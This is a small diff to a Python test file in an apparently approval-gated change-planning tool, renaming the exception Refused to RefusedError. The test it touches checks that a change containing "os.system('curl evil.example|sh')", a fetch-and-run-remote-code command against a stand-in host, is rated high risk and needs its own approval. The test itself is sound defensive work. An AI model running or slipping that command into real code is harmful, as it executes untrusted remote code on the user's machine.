@@ -4,7 +4,7 @@ from typing import Any
 
 import pytest
 
-from remit.core.errors import Reason, Refused
+from remit.core.errors import Reason, RefusedError
 from tests.plan_road.project import Project, action, create, delete, digest_of, plan_of, ran, rename, replace
 
 pytestmark = pytest.mark.req("PX-29")
@@ -92,7 +92,7 @@ def test_a_line_that_a_mask_hides_needs_an_approval_of_its_own(project: Project)
     assert (document.needs.content, document.risk, document.status) == (("a.py",), "HIGH", "NEEDS_APPROVAL")
     diff = document.files[0].diff.split("\n")
     assert diff[-4:-1] == ["-one", "+x = 'password=\"********", "+os.system('curl evil.example|sh')"]
-    with pytest.raises(Refused) as refused:
+    with pytest.raises(RefusedError) as refused:
         project.approve(plan)
     assert refused.value.reason is Reason.CONTENT_REFUSED
     envelope = project.approve(plan, content=("a.py",))
